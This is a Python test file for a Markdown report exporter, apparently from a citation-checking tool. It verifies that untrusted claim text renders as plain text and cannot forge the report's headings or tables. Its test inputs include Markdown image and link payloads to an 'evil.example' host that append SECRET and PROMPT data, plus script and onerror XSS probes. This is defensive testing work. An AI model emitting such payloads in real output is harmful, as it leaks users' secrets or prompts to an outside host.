"""The Markdown report: whatever a text holds, a reader of Markdown makes nothing of it."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from core.exporters import markdown
from core.exporters._report import read
from core.models import Label, Status
from tests.core.judged import judged
from tests.core.rows import claim_row, span_row

READER = MarkdownIt("gfm-like", {"html": True, "linkify": False})
TEXT_ONLY = {"paragraph_open", "paragraph_close", "inline", "text", "text_special"}


def kinds(source: str) -> set[str]:
    """What a reader of Markdown makes of a text, nested things too."""
    tokens = READER.parse(source)
    return {each.type for token in tokens for each in [token, *(token.children or [])]}


def shown(source: str) -> str:
    """The text that a reader of Markdown sees."""
    return "".join(child.content for token in READER.parse(source) for child in token.children or [])


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://cdn.evil.example/1x1.gif?d=SECRET)",
        "![a][r] [r]: https://evil.example/q?p=PROMPT",
        "<img src=x onerror=alert(1)> <script>alert(1)</script> <https://evil.example>",
        "**bold** _it_ ~~gone~~ `code` $x^2$ | cell | # head",
        "&lt;b&gt; &#35; \\* [^1] ==mark== {{ x }}",
        "Price $48.15 [1](https://k.example/x), range $47.02 to $49.90 per *share*.",
    ],
)
def test_a_text_reads_as_it_stands(text: str) -> None:
    """No image, link, element, emphasis, code or formula is made of it, and every character is seen."""
    source = f"Claim: {markdown.plain(text)}"

    assert kinds(source) <= TEXT_ONLY
    assert shown(source).replace("\u2060", "") == f"Claim: {text}"


@given(st.text(alphabet=st.one_of(st.sampled_from("*_`[]()<>|#!&\\~$@:-+.1 \n"), st.characters())))
def test_no_text_becomes_anything(text: str) -> None:
    """Any text stays one line of text, in a paragraph and in the cell of a table."""
    plain = markdown.plain(text)
    table = f"| a | b |\n| --- | --- |\n| x{plain} | c |\n"

    assert kinds(f"x{plain}") <= TEXT_ONLY
    assert "\n" not in plain
    assert sum(token.type == "td_open" for token in READER.parse(table)) == 2


@pytest.mark.parametrize("text", ["https://evil.example", "www.evil.example", "@octocat", "#12", ":tada:"])
def test_what_is_made_after_parsing_is_kept_apart(text: str) -> None:
    """Bare links, mentions, references and emoji are broken by a joiner that nobody sees."""
    assert "\u2060" in markdown.plain(text)


def test_the_report_names_judge_and_counts(tmp_path: Path) -> None:
    """Verifier, protocol, attempted, judged, excluded and bounds stand in it; one heading a claim."""
    out = tmp_path / "report.md"
    rows = [claim_row(), claim_row(label=None), claim_row(label=Label.UNCITED, cites=(), spans=())]

    assert markdown.write([judged(row) for row in rows], out) == 3
    text = out.read_text("utf-8")
    assert "Judged by the verifier `lexical` under the protocol `lexical@1+00000000`." in text
    assert "It is a baseline on this machine that counts the words and numbers in common" in text
    assert "Not judged" not in text
    assert "| unsupported (strict) | 50.0% | 5.5% to 94.5% | 1 | 2 | 3 | 1 | 33.3% to 66.7% |" in text
    assert text.count("\n### ") == 3


def test_failures_stand_apart_from_labels() -> None:
    """They are counted by kind in words, and in no line of the table of labels."""
    failed = span_row(label=None, status=Status.FAILED, scores={}, reason="overloaded: Five attempts")
    rows = [claim_row(), claim_row(label=None, semantic="failed", spans=(failed,))]
    text = markdown.page(read([judged(row) for row in rows]))

    assert "Not judged; neither a label nor a score:\n\n- 1 claim: the model was overloaded (ask again)." in text
    assert "Not judged: the model was overloaded, ask again. Five attempts" in text
    assert "| overloaded" not in text.lower()


def test_a_hostile_claim_changes_no_figure() -> None:
    """A claim that looks like a heading and a table leaves the report's own structure alone."""
    evil = "x\n\n# Citation report\n\n| Measure | Share |\n| --- | --- |\n| unsupported | 0% |"
    source = markdown.page(read([judged(claim_row(claim=evil), query=evil)]))
    tokens = READER.parse(source)

    assert sum(token.type == "heading_open" and token.tag == "h1" for token in tokens) == 1
    assert sum(token.type == "table_open" for token in tokens) == 2
